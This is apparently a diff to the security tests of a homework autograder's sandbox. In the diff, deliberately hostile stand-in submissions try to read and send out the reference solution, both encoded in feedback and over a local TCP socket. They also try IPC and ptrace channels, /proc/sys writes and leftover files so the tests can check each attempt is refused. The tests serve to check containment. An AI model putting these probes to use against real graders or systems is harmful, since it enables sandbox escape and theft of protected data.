@@ -47,6 +47,7 @@ import subprocess
 import sys
 import sysconfig
 import tempfile
+import threading
 import time
 import uuid
 import zipfile
@@ -317,7 +318,7 @@ def _visible(paths, marker=None):
 
 # ---- 1, 2, 11, 12: the notebook: writes and remounts, /proc/sys and the hostname, /tmp, processes
 NOTEBOOK = r'''
-import ctypes, json, os, socket, subprocess, sys, time
+import ctypes, json, os, socket, subprocess, sys, tempfile, time
 
 TOKEN, NEW_FILES, EXISTING = HOSTILE["token"], HOSTILE["new_files"], HOSTILE["existing"]
 _DONE, _CREATED, _REFUSED = {}, [], {}  # _CREATED: in the child's view; the host is checked by the test
@@ -386,8 +387,8 @@ _try("hostname", lambda: _run("hostname", "hw2-pwned"))
 _try("/proc/sys/vm/drop_caches", lambda: _write("/proc/sys/vm/drop_caches", "1"))
 _try("/proc/sys/kernel/core_pattern",
      lambda: _write("/proc/sys/kernel/core_pattern", open("/proc/sys/kernel/core_pattern").read()))
-with open("/tmp/hw2-hostile-" + TOKEN, "w") as f:  # allowed: the child's own /tmp
-    f.write(TOKEN)
+with open(os.path.join(tempfile.gettempdir(), "hw2-hostile-" + TOKEN), "w") as f:  # allowed: the child's own
+    f.write(TOKEN)  # temporary folder (bubblewrap: its /tmp; the user layer: its home)
 
 
 def _identity():
@@ -402,11 +403,11 @@ def mlp_counts():  # 1.2: fails, with the report
                                                   "refused": _REFUSED}) + ">>>")
 
 
-def attention_probabilities(X, W_Q, W_K):  # 1.3-attention-probabilities: 2 GB into /tmp
+def attention_probabilities(X, W_Q, W_K):  # 1.3-attention-probabilities: 2 GB into its temporary folder
     written, error, chunk = 0, None, b"\0" * (32 << 20)
     try:
         for index in range(16):
-            with open(f"/tmp/hw2-fill-{TOKEN}-{index}", "wb") as f:
+            with open(os.path.join(tempfile.gettempdir(), f"hw2-fill-{TOKEN}-{index}"), "wb") as f:
                 for _ in range(4):
                     f.write(chunk)
                     written += len(chunk)
@@ -496,7 +497,8 @@ def test_writes_remounts_hostname_tmp_and_processes_are_contained(grader):
     assert _digest(stable) == before[0], "files outside the child changed"
     assert {p: (os.stat(p).st_mode, os.stat(p).st_uid) for p in unstable if os.path.exists(p)} == before[1]
     assert not [p for p in unstable if os.path.exists(p) and token.encode() in Path(p).read_bytes()]
-    assert not glob.glob(f"/tmp/hw2-fill-{token}-*"), "the submission's /tmp files are on the machine's /tmp"
+    assert not glob.glob(f"/tmp/hw2-fill-{token}-*") + glob.glob(f"/tmp/hw2-child-*/home/hw2-fill-{token}-*"), (
+        "the submission's temporary files are on the machine's /tmp")
 
     report = _report(graded.feedback, "REPORT")  # printed from a failing function: in the feedback
     assert report["done"] == {}, f"attacks that succeeded: {report['done']}"
@@ -818,7 +820,7 @@ def test_grade_all_links_classmates_zip_bombs_and_bad_bytes(grader, zip_bomb):
 
 # ---- 4, 5: what the training tests measure (2.2 and 3.1a; the default mode only: the dearest) -----
 CNN = r'''
-import base64 as _base64, json as _json, zlib as _zlib
+import base64 as _base64, json as _json, socket as _socket, zlib as _zlib
 
 _REPORTED = False
 print("<<<LABELS " + _json.dumps(_visible(HOSTILE["labels"])) + ">>>")  # at import: shown by 2.2-equivalence
@@ -848,7 +850,10 @@ def train_batch(X, y, model, optimizer, criterion):
         for path in sorted(found):
             try:
                 with open(path, "rb") as f:  # compressed, encoded: as much as the printed output holds
-                    print("<<<STANDIN " + _base64.b64encode(_zlib.compress(f.read(), 9)).decode()[:1400] + ">>>")
+                    stolen = f.read()
+                print("<<<STANDIN " + _base64.b64encode(_zlib.compress(stolen, 9)).decode()[:1400] + ">>>")
+                with _socket.create_connection(("127.0.0.1", HOSTILE["port"]), timeout=3) as out:  # and out
+                    out.sendall(stolen)
             except OSError:
                 pass
     return 2.3
@@ -882,10 +887,11 @@ def test_training_tests_measure_the_returned_weights():
       being wrong but working, that training uses the grader's stand-in CNN with the student's
       train_batch, which trains the small classifier of 2.2-train-batch only.) The stand-in, the
       reference's CNN and train_batch, reaches the student's code in that child; it must not reach the
-      student's feedback, in any encoding.
+      student's feedback, in any encoding, nor a TCP listener on the machine.
     - decoder.py looks for the reference captions, finds none, and ignores its inputs: it fails
       3.1a-bleu, measured from the weights it trained."""
     space = Path(tempfile.mkdtemp(prefix="hw2-hostile-", dir="/tmp"))
+    listeners = _Listeners(space, uuid.uuid4().hex[:12])
     try:
         labels = [str(ROOT / "data" / "cache" / "FashionMNIST" / "raw" / "*"), str(DATASETS / "fashion-mnist" / "*"),
                   "/work/*/data/cache/FashionMNIST/raw/*", "/root/.cache/*", "/tmp/hw2-*/*labels*"]
@@ -893,7 +899,7 @@ def test_training_tests_measure_the_returned_weights():
                     str(ROOT / "data" / "cache" / "features" / "*"), "/tmp/hw2-*/dataset.json"]
         tree = _tree(space / "student",
                      h2_q2_py=((SOLUTION / "h2-q2.py").read_text() + VISIBLE
-                               + f"\nHOSTILE = {{'labels': {labels!r}}}\n" + CNN),
+                               + f"\nHOSTILE = {{'labels': {labels!r}, 'port': {listeners.port}}}\n" + CNN),
                      decoder_py=((SOLUTION / "decoder.py").read_text() + VISIBLE
                                  + f"\nHOSTILE = {{'captions': {captions!r}}}\n" + CAPTIONS))
         env = dict(os.environ, SYDNEY_DIR=str(SYDNEY), HW2_BUDGET="test")  # the reduced, calibrated budgets
@@ -902,8 +908,10 @@ def test_training_tests_measure_the_returned_weights():
             tree, space / "out", "2.2-equivalence,2.2-train-batch,2.2-accuracy,3.1a-equivalence,3.1a-bleu", seconds=60)
         graded.sizes_bounded()
     finally:
+        listeners.close()
         shutil.rmtree(space, ignore_errors=True)
     assert not any(t["extra_data"]["not_run"] for t in graded.tests.values())
+    assert listeners.received == [], "the grader's stand-in was sent out of its child"
     # 4: no labels; the accuracy of the weights the training returned
     accuracy = graded.output("2.2-accuracy")
     assert graded.tests["2.2-accuracy"]["status"] == "failed" and graded.score("2.2-accuracy") == 0, accuracy
@@ -925,6 +933,222 @@ def test_training_tests_measure_the_returned_weights():
         leaked = [line.strip() for line in shown.splitlines() if len(line.strip()) >= 24 and line.strip() in reference]
         assert not leaked, (f"the grader's stand-in reached the student's feedback, zlib-compressed and "
                             f"base64-encoded: {len(leaked)} lines of the reference h2-q2.py, e.g. {leaked[-6:]}")
+
+
+# ---- 14, 15: channels out of the child, and what it leaves for the next one (the notebook) --------
+CHANNELS = r'''
+import ctypes as _ctypes, errno as _errno, json as _json, os as _os, socket as _socket, time as _time
+
+_libc = _ctypes.CDLL(None, use_errno=True)
+_libc.syscall.restype = _ctypes.c_long
+TOKEN, KEY = HOSTILE["token"], HOSTILE["key"]
+MESSAGE = ("hw2-leak " + TOKEN).encode()
+
+
+def _outcome(action):
+    """"ok", or the name of the error (an OSError's, or a C call's errno)."""
+    try:
+        result = action()
+    except OSError as error:
+        return _errno.errorcode.get(error.errno, str(error.errno))
+    if isinstance(result, int) and result == -1:
+        return _errno.errorcode.get(_ctypes.get_errno(), "?")
+    return "ok"
+
+
+def _send(family, address):
+    with _socket.socket(family, _socket.SOCK_STREAM) as s:
+        s.settimeout(3)
+        s.connect(address)
+        s.sendall(MESSAGE)
+
+
+def _left(path):
+    with open(path, "w") as f:
+        f.write(TOKEN)
+
+
+def _shared_memory():
+    ident = _libc.shmget(KEY, 4096, 0o1666)
+    if ident == -1:
+        return -1
+    _libc.shmat.restype = _ctypes.c_void_p
+    address = _libc.shmat(ident, None, 0)
+    _ctypes.memmove(address, MESSAGE, len(MESSAGE))
+    return 0
+
+
+def _another_process(call):  # ptrace / process_vm_readv of a process of its own uid (its own child)
+    pid = _os.fork()
+    if pid == 0:
+        _time.sleep(30)
+        _os._exit(0)
+    try:
+        return call(pid)
+    finally:
+        _os.kill(pid, 9)
+        _os.waitpid(pid, 0)
+
+
+def conv_output_size(*args, **kwargs):  # 1.1-output-sizes: every channel out, and leftovers
+    done = {
+        "tcp": _outcome(lambda: _send(_socket.AF_INET, ("127.0.0.1", HOSTILE["port"]))),
+        "unix": _outcome(lambda: _send(_socket.AF_UNIX, HOSTILE["unix"])),
+        "abstract unix": _outcome(lambda: _send(_socket.AF_UNIX, "\0" + HOSTILE["abstract"])),
+        "socketpair": _outcome(_socket.socketpair),
+        "shm": _outcome(_shared_memory),
+        "sem": _outcome(lambda: _libc.semget(KEY, 1, 0o1666)),
+        "msg": _outcome(lambda: _libc.msgget(KEY, 0o1666)),
+        "mq": _outcome(lambda: _libc.mq_open(("/hw2-left-" + TOKEN).encode(), _os.O_CREAT | _os.O_RDWR, 0o666, None)),
+        "ptrace": _outcome(lambda: _another_process(lambda pid: _libc.ptrace(16, pid, None, None))),
+        "process_vm_readv": _outcome(lambda: _another_process(
+            lambda pid: _libc.syscall(310, pid, None, 0, None, 0, 0))),
+    }
+    files = {path: _outcome(lambda path=path: _left(path)) for path in HOSTILE["leftovers"]}
+    raise RuntimeError("<<<CHANNELS " + _json.dumps({"done": done, "files": files}) + ">>>")
+'''
+
+FINDER = r'''
+import glob as _glob, json as _json, os as _os
+
+
+def conv_output_size(*args, **kwargs):  # 1.1-output-sizes: what an earlier child left, anywhere it could
+    found = []
+    for pattern in HOSTILE["patterns"]:
+        for path in _glob.glob(pattern):
+            try:
+                with open(path, "rb") as f:
+                    found.append(path + ": " + f.read(200).decode(errors="replace"))
+            except OSError as error:
+                found.append(path + " (" + type(error).__name__ + ")")
+    for kind in ("shm", "sem", "msg"):
+        try:
+            with open("/proc/sysvipc/" + kind) as f:
+                found += [kind + " " + line.split()[0] for line in f if line.split()[0] == str(HOSTILE["key"])]
+        except OSError:
+            pass
+    raise RuntimeError("<<<FOUND " + _json.dumps(found) + ">>>")
+'''
+
+
+class _Listeners:
+    """A TCP listener on 127.0.0.1, a unix socket anyone may connect to, and an abstract one: what
+    they receive."""
+
+    def __init__(self, folder, token):
+        self.received = []
+        self.tcp = socket.create_server(("127.0.0.1", 0))
+        self.port = self.tcp.getsockname()[1]
+        self.path = str(folder / "listener.sock")
+        self.unix = socket.socket(socket.AF_UNIX)
+        self.unix.bind(self.path)
+        os.chmod(self.path, 0o777)
+        self.abstract_name = f"hw2-listener-{token}"
+        self.abstract = socket.socket(socket.AF_UNIX)
+        self.abstract.bind("\0" + self.abstract_name)
+        self.servers = [self.tcp, self.unix, self.abstract]
+        for server in self.servers:
+            server.listen()
+            server.setblocking(False)
+        self.stop = False
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        import select
+
+        while not self.stop:
+            for server in select.select(self.servers, [], [], 0.2)[0]:
+                try:
+                    connection, _ = server.accept()
+                except OSError:
+                    continue
+                connection.settimeout(2)
+                try:
+                    self.received.append(connection.recv(1000) or b"(connected)")
+                except OSError:
+                    self.received.append(b"(connected)")
+                connection.close()
+
+    def close(self):
+        self.stop = True
+        self.thread.join()
+        for server in self.servers:
+            server.close()
+
+
+def _left_on_the_machine(token, key):
+    """What carries `token` or `key` on the machine after a grading: files in the shared folders and
+    System V IPC objects."""
+    found = [p for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/dev/mqueue")
+             for p in glob.glob(f"{folder}/hw2-left-{token}*")]
+    for kind in ("shm", "sem", "msg"):
+        try:
+            found += [f"{kind} {line.split()[1]}" for line in Path(f"/proc/sysvipc/{kind}").read_text().splitlines()[1:]
+                      if line.split()[0] == str(key)]
+        except OSError:
+            pass
+    return found
+
+
+def test_no_channel_out_of_the_child_and_nothing_left_for_the_next(grader):
+    """Classes 14, 15: a child that connects to a TCP listener, a unix socket and an abstract one,
+    makes a socketpair, System V shared memory, semaphores, message queues and a POSIX queue,
+    traces and reads another process of its uid, and leaves files in /run/lock, /dev/shm, /var/tmp
+    and /tmp: every channel is refused, nothing is received, the test fails with the report and the
+    grading completes; nothing of it remains on the machine, and a second student graded after
+    (whose child runs as the same uid in the user layer) finds nothing."""
+    space = grader.workspace()
+    token = uuid.uuid4().hex[:12]
+    key = int(token[:7], 16)
+    leftovers = [f"{folder}/hw2-left-{token}" for folder in ("/run/lock", "/dev/shm", "/var/tmp", "/tmp")]
+    listeners = _Listeners(space, token)
+    try:
+        config = {"token": token, "key": key, "port": listeners.port, "unix": listeners.path,
+                  "abstract": listeners.abstract_name, "leftovers": leftovers}
+        tree = _tree(space / "leaver", **{"q1.ipynb": _notebook(config, CHANNELS)})
+        graded, seconds, _ = grader.grade(tree, space / "out-leaver", "1.1", seconds=30)
+        left = _left_on_the_machine(token, key)
+        finder = _tree(space / "finder", **{"q1.ipynb": _notebook(
+            {"key": key, "patterns": [f"{p[:-len(token)]}*" for p in leftovers] + ["/dev/mqueue/hw2-left-*"]},
+            FINDER)})
+        found_graded, _, _ = grader.grade(finder, space / "out-finder", "1.1", seconds=30)
+    finally:
+        listeners.close()
+        for path in _left_on_the_machine(token, key):
+            if "/" in path:
+                os.unlink(path)
+    report = _report(graded.output("1.1-output-sizes"), "CHANNELS")
+    assert graded.tests["1.1-output-sizes"]["status"] == "failed" and not graded.results["extra_data"]["incomplete"]
+    assert seconds < 90
+    assert listeners.received == [], f"the child sent {listeners.received} out of the sandbox"
+    assert {name: outcome for name, outcome in report["done"].items() if outcome == "ok"} == {}, report
+    if "no namespaces" in graded.results["extra_data"]["sandbox"]:  # bubblewrap's /tmp is the child's own
+        assert {p: outcome for p, outcome in report["files"].items() if outcome == "ok"} == {}, report
+    assert left == [], f"left on the machine after the grading: {left}"
+    assert _report(found_graded.output("1.1-output-sizes"), "FOUND") == [], found_graded.output("1.1-output-sizes")
+
+
+# runs what follows where no process may install a seccomp filter (a container that forbids them)
+NO_SECCOMP = ("import errno, os, sys, pyseccomp as s\nf = s.SyscallFilter(s.ALLOW)\n"
+              "f.add_rule(s.ERRNO(errno.EPERM), 'seccomp')\n"
+              "f.add_rule(s.ERRNO(errno.EPERM), 'prctl', s.Arg(0, s.EQ, 22))\n"  # PR_SET_SECCOMP
+              "f.load()\nos.execvp(sys.argv[1], sys.argv[1:])\n")
+
+
+def test_a_layer_whose_child_cannot_be_confined_does_not_grade(grader):
+    """Where the child's seccomp filter cannot be installed (here, the grader runs under a filter that
+    refuses seccomp itself), no layer is used: grading does not start, writes nothing, and says why
+    and how to fix it."""
+    space = grader.workspace()
+    tree = _tree(space / "student")
+    refusing = Grader(grader.mode, grader.root, grader.env, prefix=[PYTHON, "-c", NO_SECCOMP, *grader.prefix],
+                      uid=grader.uid)
+    done, _, _ = refusing.run(["grade", tree, "--out", space / "out", "--only", "1.1"])
+    assert done.returncode != 0, done.stdout[-2000:]
+    assert not (space / "out" / "results.json").exists()
+    assert "cannot be confined" in done.stderr and "refused the filter" in done.stderr, done.stderr[-3000:]
+    assert "Fix" in done.stderr
 
 
 # ---- the container layer refuses to grade where its child could read private files ----------------
